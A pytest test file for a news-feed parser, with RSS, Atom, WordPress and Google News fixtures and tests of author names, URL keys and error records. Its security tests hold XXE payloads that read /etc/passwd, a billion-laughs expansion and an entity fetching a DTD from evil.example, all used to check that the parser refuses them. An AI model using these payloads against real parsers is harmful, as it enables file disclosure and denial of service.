import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from transforms.parse.feed import author_name, parse_feed
from transforms.schema import RAW_ARTICLES

# RSS 2.0 as news sites publish it: HTML in <description>, dc:creator, categories, an item without a link
RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Wire</title>
<item><title>Mali &amp; Niger sign pact</title><link>https://example.com/a</link><guid>urn:a</guid>
<pubDate>Tue, 10 Jun 2003 04:00:00 GMT</pubDate><category>World</category><category>Africa</category>
<dc:creator>Jane Doe</dc:creator>
<description>&lt;p&gt;BAMAKO &lt;b&gt;(AFP)&lt;/b&gt; - The pact.&lt;/p&gt;
&lt;script&gt;track()&lt;/script&gt;&lt;p&gt;Turner #39;s view.&lt;/p&gt;</description>
</item>
<item><title>No link here</title><description>Plain text.</description></item>
</channel></rss>"""

# Atom 1.0: two authors, HTML content beside a summary, an offset date in <updated> only
ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><id>urn:feed</id><updated>2019-11-04T10:00:00+01:00</updated>
<entry><title>Attack on base</title><link href="https://example.com/1"/><id>urn:1</id>
<updated>2019-11-04T10:00:00+01:00</updated>
<author><name>A One</name></author><author><name>B Two</name></author>
<summary>Short.</summary>
<content type="html">&lt;p&gt;Full body.&lt;/p&gt;&lt;p&gt;Second.&lt;/p&gt;</content></entry>
</feed>"""


# WordPress RSS as blogs and local papers publish it: CDATA everywhere, an entity inside a CDATA author, a
# figure with a caption in content:encoded, a section then tags as categories, a guid but no link
WORDPRESS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>The Clare Echo &#8211; News</title><link>https://clare.example</link>
<item><title><![CDATA[O&#8217;Connor&#8217;s plan]]></title>
<dc:creator><![CDATA[Liam O&#8217;Connor]]></dc:creator>
<category><![CDATA[environment]]></category><category><![CDATA[science]]></category>
<guid isPermaLink="false">https://clare.example/?p=123</guid>
<description><![CDATA[Short summary&#8230;]]></description>
<content:encoded><![CDATA[<figure><img src="x.jpg"/><figcaption>Liam O&#8217;Connor. Photo: Agency</figcaption></figure>
<p>First para.</p><aside><a href="/r">Read more: other story</a></aside><p>Second para.</p>]]></content:encoded>
</item></channel></rss>"""


# Google News RSS: each title ends in ` - Publisher`, the item's <source> names the publisher, and the
# description is no text but links: a list of several outlets' stories, or one story's link and outlet
GOOGLE_NEWS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<rss xmlns:media="http://search.yahoo.com/mrss/" version="2.0"><channel><generator>NFE/5.0</generator>
<title>Top stories - Google News</title><link>https://news.google.com/?hl=en-GB&amp;gl=GB&amp;ceid=GB:en</link>
<item><title>Mali attack kills 53 soldiers - BBC News</title>
<link>https://news.google.com/rss/articles/CBMiK2h0dHBzOi8vd3d3LmJiYy5jby51ay9uZXdzL3dvcmxkLWFmcmljYQ?oc=5</link>
<guid isPermaLink="false">CBMiK2h0dHBzOi8vd3d3LmJiYy5jby51ay9uZXdzL3dvcmxkLWFmcmljYQ</guid>
<pubDate>Mon, 04 Nov 2019 08:00:00 GMT</pubDate>
<description>&lt;ol&gt;&lt;li&gt;&lt;a href="https://news.google.com/rss/articles/CBMiK2h0?oc=5" target="_blank"&gt;
Mali attack kills 53 soldiers&lt;/a&gt;&amp;nbsp;&amp;nbsp;&lt;font color="#6f6f6f"&gt;BBC News&lt;/font&gt;&lt;/li&gt;
&lt;li&gt;&lt;a href="https://news.google.com/rss/articles/CBMiQWh0?oc=5" target="_blank"&gt;Dozens of soldiers
killed in attack on army post in Mali&lt;/a&gt;&amp;nbsp;&amp;nbsp;&lt;font color="#6f6f6f"&gt;Al Jazeera English
&lt;/font&gt;&lt;/li&gt;&lt;/ol&gt;</description>
<source url="https://www.bbc.co.uk">BBC News</source></item>
<item><title>Brexit - what happens next? - The Guardian</title>
<link>https://news.google.com/rss/articles/CBMiRmh0dHBzOi8vd3d3LnRoZWd1YXJkaWFuLmNvbS9wb2xpdGljcw?oc=5</link>
<pubDate>Mon, 04 Nov 2019 07:00:00 GMT</pubDate>
<description>&lt;a href="https://news.google.com/rss/articles/CBMiRmh0?oc=5" target="_blank"&gt;Brexit - what happens
next?&lt;/a&gt;&amp;nbsp;&amp;nbsp;&lt;font color="#6f6f6f"&gt;The Guardian&lt;/font&gt;</description>
<source url="https://www.theguardian.com">The Guardian</source></item>
</channel></rss>"""

# A WordPress export (Tools → Export, WXR 1.2): the channel's authors by login and display name, a published
# post whose pubDate is empty, a draft with WordPress's zero dates, a page, and an image attachment
WXR = b"""<?xml version="1.0" encoding="UTF-8" ?>
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
 xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:wfw="http://wellformedweb.org/CommentAPI/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/">
<channel><title>Valley Post</title><link>https://valleypost.example</link>
<pubDate>Tue, 05 Nov 2019 12:00:00 +0000</pubDate><language>en-GB</language><wp:wxr_version>1.2</wp:wxr_version>
<wp:author><wp:author_id>1</wp:author_id><wp:author_login><![CDATA[djones]]></wp:author_login>
<wp:author_email><![CDATA[dj@valleypost.example]]></wp:author_email>
<wp:author_display_name><![CDATA[Dafydd Jones]]></wp:author_display_name></wp:author>
<wp:author><wp:author_id>2</wp:author_id><wp:author_login><![CDATA[mroberts]]></wp:author_login>
<wp:author_display_name><![CDATA[Megan Roberts]]></wp:author_display_name></wp:author>
<item><title>Floods hit the north</title><link>https://valleypost.example/2019/11/04/floods/</link>
<pubDate></pubDate><dc:creator><![CDATA[djones]]></dc:creator>
<guid isPermaLink="false">https://valleypost.example/?p=101</guid><description></description>
<content:encoded><![CDATA[<p>Heavy rain flooded towns across the north.</p>]]></content:encoded>
<excerpt:encoded><![CDATA[]]></excerpt:encoded><wp:post_id>101</wp:post_id>
<wp:post_date><![CDATA[2019-11-04 08:30:00]]></wp:post_date>
<wp:post_date_gmt><![CDATA[2019-11-04 08:30:00]]></wp:post_date_gmt>
<wp:comment_status><![CDATA[open]]></wp:comment_status><wp:status><![CDATA[publish]]></wp:status>
<wp:post_type><![CDATA[post]]></wp:post_type>
<category domain="category" nicename="news"><![CDATA[News]]></category>
<category domain="post_tag" nicename="weather"><![CDATA[weather]]></category>
<wp:comment><wp:comment_id>5</wp:comment_id><wp:comment_author><![CDATA[Reader]]></wp:comment_author>
<wp:comment_date_gmt><![CDATA[2019-11-05 09:00:00]]></wp:comment_date_gmt>
<wp:comment_content><![CDATA[Terrible.]]></wp:comment_content><wp:comment_approved><![CDATA[1]]></wp:comment_approved>
</wp:comment></item>
<item><title>Council budget</title><link>https://valleypost.example/?p=102</link>
<pubDate>Mon, 30 Nov -0001 00:00:00 +0000</pubDate><dc:creator><![CDATA[mroberts]]></dc:creator>
<guid isPermaLink="false">https://valleypost.example/?p=102</guid>
<content:encoded><![CDATA[<p>Not ready yet.</p>]]></content:encoded>
<wp:post_date_gmt><![CDATA[0000-00-00 00:00:00]]></wp:post_date_gmt>
<wp:status><![CDATA[draft]]></wp:status><wp:post_type><![CDATA[post]]></wp:post_type></item>
<item><title>About us</title><link>https://valleypost.example/about/</link>
<pubDate>Mon, 01 Jan 2018 10:00:00 +0000</pubDate><dc:creator><![CDATA[djones]]></dc:creator>
<content:encoded><![CDATA[<p>We are the valley's paper.</p>]]></content:encoded>
<wp:status><![CDATA[publish]]></wp:status><wp:post_type><![CDATA[page]]></wp:post_type></item>
<item><title>flood-photo</title><link>https://valleypost.example/flood-photo/</link>
<pubDate>Mon, 04 Nov 2019 08:00:00 +0000</pubDate><dc:creator><![CDATA[djones]]></dc:creator>
<content:encoded><![CDATA[]]></content:encoded>
<wp:status><![CDATA[inherit]]></wp:status><wp:post_type><![CDATA[attachment]]></wp:post_type></item>
</channel></rss>"""


def parse(data: bytes, **kw) -> list[dict]:
    return parse_feed(data, source_uri="/in/feed.xml", source_name="wire", **kw)


def test_rss_items_become_records():
    first, second = parse(RSS)
    assert first == {
        "source_uri": "https://example.com/a",
        "source_name": "Wire",  # the channel's title
        "source_kind": "rss",
        "url": "https://example.com/a",
        "title": "Mali & Niger sign pact",
        "body": "BAMAKO (AFP) - The pact.\n\nTurner's view.",
        "category": "World",  # the first of its categories
        "published_raw": "Tue, 10 Jun 2003 04:00:00 GMT",
        "authors": "Jane Doe",
        "external_id": "urn:a",
        "payload": first["payload"],
        "read_error": None,
    }
    assert '"link": "https://example.com/a"' in first["payload"]
    assert (second["source_uri"], second["url"], second["body"]) == ("/in/feed.xml#2", None, "Plain text.")


def test_wordpress_item_is_decoded_captions_dropped_first_category_kept():
    (item,) = parse(WORDPRESS)
    assert (item["title"], item["authors"], item["category"]) == ("O’Connor’s plan", "Liam O’Connor", "environment")
    assert item["body"] == "First para.\n\nSecond para."
    assert item["source_name"] == "The Clare Echo – News"
    assert item["source_uri"] == "/in/feed.xml#id=https://clare.example/?p=123"  # a guid, no link
    assert item["url"] is None


def test_the_users_source_name_beats_the_channel_title():
    (item,) = parse(WORDPRESS, named=True)
    assert item["source_name"] == "wire"


def test_atom_entries_take_content_over_summary():
    (entry,) = parse(ATOM)
    assert entry["source_kind"] == "atom"
    assert entry["body"] == "Full body.\n\nSecond."
    assert entry["authors"] == "A One, B Two"
    assert entry["published_raw"] == "2019-11-04T10:00:00+01:00"


def test_truncated_download_gives_the_items_it_reached():
    data = b"<rss><channel><item><title>Whole</title></item><item><title>Cut"
    records = parse(data)
    assert records[0]["title"] == "Whole"
    assert all(r["read_error"] is None for r in records)


def test_lenient_parser_reads_a_feed_with_a_stray_ampersand():
    # Hand-written RSS: an unescaped `&`, so not well-formed XML
    (item,) = parse(b"<rss><channel><item><title>A & B</title><link>http://x.com/1</link></item></channel></rss>")
    assert (item["title"], item["read_error"]) == ("A & B", None)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not a well-formed feed"),  # an empty file
        (b"\x00\x01\x02\xff", "not a well-formed feed"),  # binary bytes
        (b"<html><body><p>Hello</p></body></html>", "no RSS or Atom items"),  # a web page, not its feed
        (b"just some words", "not a well-formed feed"),  # not XML at all
        (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>', "empty feed"),
        (b"\xff\xfe<\x00r\x00", "not a well-formed feed"),  # undecodable: UTF-16 cut in half
    ],
)
def test_unreadable_feed_is_one_record_with_the_reason(data, reason):
    (record,) = parse(data)
    assert reason in record["read_error"]
    assert record["source_uri"] == "/in/feed.xml"
    assert record["payload"] is not None


@pytest.mark.parametrize(
    "data",
    [
        # XXE: an external entity reading a local file
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><item><title>&xxe;</title></item></channel></rss>",
        # Billion laughs: entities expanding exponentially
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>'
        b"<rss><channel><item><title>&lol3;</title></item></channel></rss>",
        # A parameter entity fetching a remote DTD
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        # An entity declaration after an error, where expat stops before reaching it
        b'<rss><channel><item><title>a & b</title></item></channel></rss><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_are_never_resolved(data):
    (record,) = parse(data)
    assert record["read_error"].startswith("unsafe XML")
    assert "root:" not in record["payload"]


def test_external_dtd_is_not_loaded():
    # RSS 0.91's DOCTYPE names a DTD; here a local file, which must not be read
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">'
        b"<rss><channel><item><title>T</title><description>Body</description></item></channel></rss>"
    )
    (record,) = parse(data)
    assert (record["title"], record["body"]) == ("T", "Body")
    assert "root:" not in record["payload"]


def test_links_to_local_files_are_not_keys_or_urls():
    data = b"<rss><channel><item><title>T</title><link>file:///etc/passwd</link></item></channel></rss>"
    (record,) = parse(data)
    assert (record["source_uri"], record["url"]) == ("/in/feed.xml#1", None)


def test_deeply_nested_xml_does_not_crash():
    data = b"<rss><channel><item><title>T</title><description>" + b"<a>" * 10_000 + b"x" + b"</a>" * 10_000
    records = parse(data + b"</description></item></channel></rss>")
    assert len(records) == 1


def test_emoji_right_to_left_and_duplicate_guids():
    item = "<item><guid>same</guid><title>مرحبا 🎉</title><description>שלום</description></item>"
    records = parse(f"<rss><channel>{item}{item}</channel></rss>".encode())
    assert [(r["external_id"], r["title"], r["body"]) for r in records] == [("same", "مرحبا 🎉", "שלום")] * 2


def test_parsed_only_date_is_written_as_iso_utc():
    # A date feedparser normalises but keeps no string for: Atom's <published> missing, dc:date present
    data = (
        b'<rss xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><item><title>T</title>'
        b"<dc:date>2019-11-04T10:00:00+01:00</dc:date></item></channel></rss>"
    )
    (record,) = parse(data)
    assert record["published_raw"] in ("2019-11-04T10:00:00+01:00", "2019-11-04T09:00:00Z")


def test_a_50_mb_item_is_read():
    body = b"word " * 10_000_000
    (record,) = parse(
        b"<rss><channel><item><title>T</title><description>" + body + b"</description></item></channel></rss>"
    )
    assert len(record["body"]) == len(body.strip())


def test_50_mb_of_non_xml_is_refused_quickly():
    (record,) = parse(b"a" * 50_000_000)
    assert "not a well-formed feed" in record["read_error"]


@settings(deadline=None, max_examples=60)
@given(st.binary(max_size=300) | st.text(alphabet="<>/&;!rssfeditm?xl ", max_size=200).map(str.encode))
def test_any_bytes_give_items_or_exactly_one_error(data):
    records = parse(data)
    assert len(records) >= 1
    errors = [r for r in records if r["read_error"] is not None]
    # A feed that cannot be read is one record; an item that is no article is quarantined on its own
    not_articles = ("not an article", "not a post", "not a published post")
    assert len(records) == 1 or all(r["read_error"].startswith(not_articles) for r in errors)
    for record in records:
        assert set(record) == set(RAW_ARTICLES)
        assert record["source_kind"] in ("rss", "atom")


def rss_item(inner: str) -> bytes:
    return (
        f'<rss version="2.0"><channel><title>Post</title><item><title>T</title>{inner}</item></channel></rss>'.encode()
    )


@pytest.mark.parametrize(
    ("inner", "authors"),
    [
        # RSS 2.0 as the spec writes it: an address, then the name; the domain is longer than feedparser's
        # four-letter pattern, which alone gives `ple (Dafydd Jones`
        ("<author>news@boroughpost.example (Dafydd Jones)</author>", "Dafydd Jones"),
        ("<author>dj@bp.com (Dafydd Jones)</author>", "Dafydd Jones"),  # a short domain
        ("<author>Dafydd Jones &lt;dj@boroughpost.example&gt;</author>", "Dafydd Jones"),  # mail-header form
        ("<author>Dafydd Jones (dj@boroughpost.example)</author>", "Dafydd Jones"),
        ("<author>news@boroughpost.example</author>", None),  # a desk's address names nobody
        ("<author>Dafydd Jones</author>", "Dafydd Jones"),  # a name, as most feeds write it
        # Two addresses, which RSS does not allow but some CMSs write
        (
            "<author>a@boroughpost.example (Ann Lee)</author><author>b@boroughpost.example (Bo Ng)</author>",
            "Ann Lee, Bo Ng",
        ),
        # dc:creator, twice (WordPress with a co-author plugin)
        (
            '<dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">Ann Lee</dc:creator>'
            '<dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">Bo Ng</dc:creator>',
            "Ann Lee, Bo Ng",
        ),
    ],
)
def test_rss_authors_are_names_not_addresses(inner, authors):
    (item,) = parse(rss_item(inner))
    assert item["authors"] == authors


def test_atom_author_with_an_email_gives_the_name():
    # Atom's structured author: <name> and <email>
    data = ATOM.replace(b"<author><name>B Two</name></author>", b"").replace(
        b"<name>A One</name>", b"<name>A One</name><email>a.one@boroughpost.example</email>"
    )
    (entry,) = parse(data)
    assert entry["authors"] == "A One"


names = st.lists(
    st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'-", min_size=1, max_size=12),
    min_size=1,
    max_size=4,
).map(" ".join)
addresses = st.from_regex(r"[a-z][a-z0-9.]{0,10}@[a-z]{1,10}(\.[a-z]{2,12}){1,3}", fullmatch=True)


@given(names, addresses, st.sampled_from(["{email} ({name})", "{name} <{email}>", "{name} ({email})", "{name}"]))
def test_author_name_takes_the_name_from_any_form(name, email, form):
    # The forms RSS `<author>` is written in, with any name and address
    assert author_name(form.format(name=name, email=email)) == name
    assert author_name(email) is None
    assert author_name("") is None


@pytest.mark.parametrize(
    ("inner", "key"),
    [
        # A feed that tags its links for analytics, with a permalink guid: the page, without the tags
        (
            "<link>https://example.org/cafe-award?utm_source=rss&amp;utm_medium=feed</link>"
            "<guid>https://example.org/cafe-award</guid>",
            "https://example.org/cafe-award",
        ),
        # The same item after the feed changed its tags: the same key
        (
            "<link>https://example.org/cafe-award?utm_source=rss2&amp;utm_campaign=june</link>"
            '<guid isPermaLink="true">https://example.org/cafe-award</guid>',
            "https://example.org/cafe-award",
        ),
        # A permalink guid and no link: feedparser takes the guid for the link
        ("<guid>https://example.org/cafe-award?utm_source=rss#comments</guid>", "https://example.org/cafe-award"),
        # A site that identifies its articles by a query parameter keeps it (WordPress `?p=`)
        ("<link>https://example.org/?p=123&amp;fbclid=x</link>", "https://example.org/?p=123"),
    ],
)
def test_tracking_parameters_and_fragments_are_no_part_of_the_key(inner, key):
    (item,) = parse(rss_item(inner))
    assert (item["source_uri"], item["url"]) == (key, key)


def test_a_fragment_that_tells_items_apart_is_kept():
    # A live blog's feed: each post is the same page with its own fragment
    items = "".join(
        f"<item><title>Update {n}</title><link>https://example.org/live?utm_source=rss#post-{n}</link></item>"
        for n in (1, 2)
    )
    records = parse(f"<rss><channel>{items}</channel></rss>".encode())
    assert [r["source_uri"] for r in records] == ["https://example.org/live#post-1", "https://example.org/live#post-2"]


@pytest.mark.parametrize("named", [False, True])
def test_google_news_items_name_their_publisher_and_their_lists_of_links_are_no_articles(named):
    records = parse(GOOGLE_NEWS, named=named)
    assert [(r["source_name"], r["title"], r["read_error"]) for r in records] == [
        (
            "wire" if named else "BBC News",
            "Mali attack kills 53 soldiers",
            "not an article: the item's text is a list of links",
        ),
        (
            "wire" if named else "The Guardian",
            "Brexit - what happens next?",
            "not an article: the item's text is a list of links",
        ),
    ]
    assert records[0]["published_raw"] == "Mon, 04 Nov 2019 08:00:00 GMT"
    assert '"source": {"href": "https://www.bbc.co.uk", "title": "BBC News"}' in records[0]["payload"]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Mali attack - BBC News", "Mali attack"),
        ("Mali attack | BBC News", "Mali attack"),
        ("Mali attack - Reuters", "Mali attack - Reuters"),  # a suffix naming another source stays
        ("BBC News", "BBC News"),
    ],
)
def test_a_title_loses_the_suffix_naming_its_own_source(title, expected):
    inner = '<source url="https://www.bbc.co.uk">BBC News</source><description>Text of it.</description>'
    (item,) = parse(rss_item(inner).replace(b"<title>T</title>", f"<title>{title}</title>".encode()))
    assert (item["title"], item["source_name"], item["read_error"]) == (expected, "BBC News", None)


@pytest.mark.parametrize(
    "description",
    [
        # A news site's summary with a link to the story
        "<p>Heavy rain flooded towns across the north on Tuesday.</p><p><a href='https://x.org/f'>Read more</a></p>",
        # WordPress's excerpt feed: the excerpt, then `The post <a>Title</a> appeared first on <a>Site</a>.`
        "<p>Heavy rain flooded towns across the north [&#8230;]</p><p>The post "
        "<a href='https://x.org/f'>Floods hit the north</a> appeared first on <a href='https://x.org'>Post</a>.</p>",
        # A short summary and a `Continue reading` link
        "Floods in the north. <a href='https://x.org/f'>Continue reading</a>",
        # A link inside a sentence
        "Rain flooded <a href='https://x.org/t'>the towns of the north</a> on Tuesday, the council said.",
    ],
)
def test_summaries_with_a_link_to_the_story_are_articles(description):
    inner = f"<description><![CDATA[{description}]]></description>"
    (item,) = parse(rss_item(inner))
    assert item["read_error"] is None
    assert item["body"].startswith(("Heavy rain", "Floods in", "Rain flooded"))


def test_a_wordpress_export_gives_published_posts_with_authors_names_and_utc_dates():
    records = parse(WXR)
    fields = ("source_uri", "title", "body", "authors", "published_raw", "category", "read_error")
    assert [tuple(r[name] for name in fields) for r in records] == [
        (
            "https://valleypost.example/2019/11/04/floods/",
            "Floods hit the north",
            "Heavy rain flooded towns across the north.",
            "Dafydd Jones",  # `dc:creator` holds the login `djones`
            "2019-11-04T08:30:00Z",  # `wp:post_date_gmt`, the pubDate being empty
            "News",
            None,
        ),
        (
            "https://valleypost.example/?p=102",
            "Council budget",
            "Not ready yet.",
            "Megan Roberts",
            None,  # WordPress's zero dates are no dates
            None,
            "not a published post: WordPress status draft",
        ),
        (
            "https://valleypost.example/about/",
            "About us",
            "We are the valley's paper.",
            "Dafydd Jones",
            "Mon, 01 Jan 2018 10:00:00 +0000",
            None,
            "not a post: WordPress page",
        ),
        (
            "https://valleypost.example/flood-photo/",
            "flood-photo",
            None,
            "Dafydd Jones",
            "Mon, 04 Nov 2019 08:00:00 +0000",
            None,
            "not a post: WordPress attachment",
        ),
    ]
    assert {r["source_name"] for r in records} == {"Valley Post"}
    assert '"wp_status": "draft"' in records[1]["payload"]


def test_a_pubdate_beats_the_wordpress_utc_date():
    data = WXR.replace(b"<pubDate></pubDate>", b"<pubDate>Mon, 04 Nov 2019 08:30:00 +0000</pubDate>")
    assert parse(data)[0]["published_raw"] == "Mon, 04 Nov 2019 08:30:00 +0000"
